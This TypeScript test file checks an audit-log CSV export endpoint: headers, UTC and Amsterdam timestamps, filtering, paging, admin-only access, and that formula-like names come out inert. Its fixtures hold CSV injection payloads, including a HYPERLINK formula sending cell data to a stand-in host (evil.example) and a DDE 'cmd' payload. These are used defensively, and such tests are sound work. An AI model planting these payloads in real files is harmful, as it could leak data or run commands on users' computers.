import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uuidv7 } from '../../../../common/src/ids.js';
import type { TestClient } from '../../../fixtures/apiClient.js';
import { startTestServer, testClock, testDialects, type TestServer } from '../../../fixtures/testServer.js';
import { readCsv } from './readCsv.js';

const dialects = await testDialects();

const HEADERS = ['Tijdstip (UTC)', 'Tijdstip (Amsterdam)', 'Persoon', 'Persoon-id', 'Apparaat', 'Apparaat-id', 'Actie', 'Omschrijving', 'Resultaat', 'Doel', 'Doel (naam)', 'Details', 'Id'];
const col = (name: string) => HEADERS.indexOf(name);

/** Names a spreadsheet program would run as formulas, were they written as they are. */
const FORMULA_NAMES = {
  '1002': '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
  '1005': '@SUM(1,1)*cmd|\' /C calc\'!A0',
  '1003': '\t=1+1',
  '1001': '\r=2+2',
};
const FORMULA_DEVICE = '+SUM(1,2)';
const MINUS_DEVICE = '-2+3';

/** A cell that Excel, LibreOffice or Google Sheets could evaluate. */
const liveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe.each(dialects)('audit log export as CSV (%s)', (dialect) => {
  let s: TestServer;
  const clock = testClock('2030-07-01T10:00:00.000Z');
  let daan: TestClient;
  let ids: Record<string, string> = {};

  /** The export as text, checked to be UTF-8 CSV with a byte-order mark, and its records below the header. */
  async function exportCsv(query = ''): Promise<string[][]> {
    // Bytes, not fetch's text(): that would drop the byte-order mark this checks for.
    const res = await fetch(`${s.url}/v1/admin/audit.csv${query ? `?${query}` : ''}`, { headers: { authorization: `Bearer ${daan.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="auditlog-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...records] = readCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3)));
    expect(header).toEqual(HEADERS);
    for (const r of records) expect(r).toHaveLength(HEADERS.length);
    return records;
  }

  beforeAll(async () => {
    s = await startTestServer(dialect, { now: clock.now });
    const people = await s.db.kysely.selectFrom('people').select(['id', 'employee_number']).where('employee_number', 'in', ['1001', '1002', '1003', '1004', '1005']).execute();
    ids = Object.fromEntries(people.map((p) => [p.employee_number, p.id]));
    for (const [number, name] of Object.entries(FORMULA_NAMES)) {
      await s.db.kysely.updateTable('people').set({ name }).where('id', '=', ids[number]!).execute();
    }
    // A summer morning, a winter morning and the night the clocks go forward in Amsterdam.
    clock.freeze('2030-07-01T10:00:00.000Z');
    await s.login('1002');
    clock.freeze('2030-01-15T10:00:00.000Z');
    await s.login('1005');
    clock.freeze('2030-03-31T01:30:00.000Z');
    await s.login('1003');
    clock.run();
    clock.set('2030-07-02T08:00:00.000Z');
    daan = await s.login('1004');
    await s.login('1001');
    const ward = await s.enrolDevice({ name: FORMULA_DEVICE });
    await ward.loginPin('1002');
    const other = await s.enrolDevice({ name: MINUS_DEVICE });
    await daan.call('revokeDevice', { params: { id: other.deviceId } });
  });
  afterAll(() => s?.close());

  it('writes one row per entry, oldest first, up to and including its own entry', async () => {
    const records = await exportCsv();
    const stored = await s.db.kysely.selectFrom('auth_events').select(['id', 'action', 'person_id']).where('tenant_id', '=', s.tenants.demo!).orderBy('at').orderBy('id').execute();
    expect(records.map((r) => r[col('Id')])).toEqual(stored.map((e) => e.id));
    const last = records[records.length - 1]!;
    expect([last[col('Actie')], last[col('Persoon-id')], last[col('Resultaat')], last[col('Omschrijving')]]).toEqual(['audit_exported', ids['1004'], 'ok', 'Auditlog geëxporteerd']);
  });

  it('keeps formulas in names of people and devices inert, with the text otherwise intact', async () => {
    const records = await exportCsv();
    for (const r of records) for (const cell of r) expect(liveFormula(cell), cell).toBe(false);
    const nameOf = (personId: string) => records.find((r) => r[col('Persoon-id')] === personId)![col('Persoon')];
    for (const [number, name] of Object.entries(FORMULA_NAMES)) expect(nameOf(ids[number]!)).toBe(`'${name}`);
    expect(records.filter((r) => r[col('Apparaat')] === `'${FORMULA_DEVICE}`).map((r) => r[col('Actie')])).toEqual(['device_enrolled', 'login_pin']);
    const revoked = records.find((r) => r[col('Actie')] === 'device_revoked')!;
    expect(revoked[col('Doel (naam)')]).toBe(`'${MINUS_DEVICE}`);
    // The code's device name sits inside the details, which start with a label and so cannot run.
    const codes = records.filter((r) => r[col('Actie')] === 'enrolment_code_created').map((r) => r[col('Details')]);
    expect(codes[0]).toMatch(/^naam: \+SUM\(1,2\); soort: shared; geldig tot: 2030-07-02T/);
  });

  it('names people, devices and groups and gives each time in UTC and on the clock in Amsterdam', async () => {
    const records = await exportCsv();
    const login = (personId: string) => records.find((r) => r[col('Persoon-id')] === personId && r[col('Actie')] === 'login_password')!;
    expect([login(ids['1002']!)[col('Tijdstip (UTC)')], login(ids['1002']!)[col('Tijdstip (Amsterdam)')]]).toEqual(['2030-07-01T10:00:00.000Z', '2030-07-01 12:00:00']);
    expect(login(ids['1005']!)[col('Tijdstip (Amsterdam)')]).toBe('2030-01-15 11:00:00');
    expect(login(ids['1003']!)[col('Tijdstip (Amsterdam)')]).toBe('2030-03-31 03:30:00');
    expect(login(ids['1004']!)[col('Persoon')]).toBe('Daan Bakker');
    expect(login(ids['1004']!)[col('Omschrijving')]).toBe('Ingelogd met wachtwoord');
    const pin = records.find((r) => r[col('Actie')] === 'login_pin')!;
    expect(pin[col('Apparaat-id')]).toMatch(/^[0-9a-f-]{36}$/);
    expect(pin[col('Persoon')]).toBe(`'${FORMULA_NAMES['1002']}`);

    const team3b = (await s.db.kysely.selectFrom('groups').select('id').where('tenant_id', '=', s.tenants.demo!).where('name', '=', 'Team 3B').executeTakeFirstOrThrow()).id;
    expect((await daan.call('addGroupMember', { params: { id: team3b, personId: ids['1004']! } })).status).toBe(200);
    const joined = (await exportCsv('action=group_member_added'))[0]!;
    expect([joined[col('Doel')], joined[col('Doel (naam)')], joined[col('Details')]]).toEqual([
      `group:${team3b}`,
      'Team 3B',
      `persoon: Daan Bakker (person:${ids['1004']}); rol: member; vorige rol: —`,
    ]);
  });

  it('filters like the list does, and records the export with its filters', async () => {
    const from = '2030-07-01T00:00:00.000Z';
    const to = '2030-07-02T00:00:00.000Z';
    const records = await exportCsv(`personId=${ids['1002']}&from=${from}&to=${to}`);
    expect(records.map((r) => [r[col('Persoon-id')], r[col('Actie')], r[col('Tijdstip (UTC)')]])).toEqual([[ids['1002'], 'login_password', '2030-07-01T10:00:00.000Z']]);
    const exports = await daan.call('listAuditEvents', { query: { action: 'audit_exported', limit: 1 } });
    expect(exports.body.items[0]).toMatchObject({ personId: ids['1004'], result: 'ok', detail: { person: `person:${ids['1002']}`, from, to } });
  });

  it('is complete across its pages for a long log', async () => {
    const anna = ids['1001']!;
    const start = Date.parse('2029-01-01T00:00:00.000Z');
    // 2,345 entries over half a year, three to a millisecond, so page ends (every 1,000 rows) fall
    // between entries of the same millisecond: more than two export pages.
    const rows = Array.from({ length: 2345 }, (_, i) => {
      const at = start + Math.floor(i / 3) * 20_000_000;
      return { tenant_id: s.tenants.demo!, id: uuidv7(at), at: new Date(at).toISOString(), person_id: anna, device_id: null, action: 'login_badge', result: 'ok', detail: null };
    });
    for (let i = 0; i < rows.length; i += 200) await s.db.kysely.insertInto('auth_events').values(rows.slice(i, i + 200)).execute();
    const records = await exportCsv(`personId=${anna}&action=login_badge`);
    const expected = [...rows].sort((a, b) => (a.at === b.at ? (a.id < b.id ? -1 : 1) : a.at < b.at ? -1 : 1)).map((r) => r.id);
    expect(records.map((r) => r[col('Id')])).toEqual(expected);
    expect(new Set(records.map((r) => r[col('Persoon')]))).toEqual(new Set([`'${FORMULA_NAMES['1001']}`]));
  });

  it('refuses a colleague who is no admin, and records the attempt', async () => {
    const eva = await s.login('1005');
    const res = await eva.get('/v1/admin/audit.csv');
    expect(res.status).toBe(403);
    expect(res.body).toMatchObject({ error: { code: 'forbidden' } });
    const tried = await daan.call('listAuditEvents', { query: { action: 'audit_exported', personId: ids['1005'] } });
    expect(tried.body.items).toEqual([expect.objectContaining({ result: 'forbidden', detail: {} })]);
  });
});
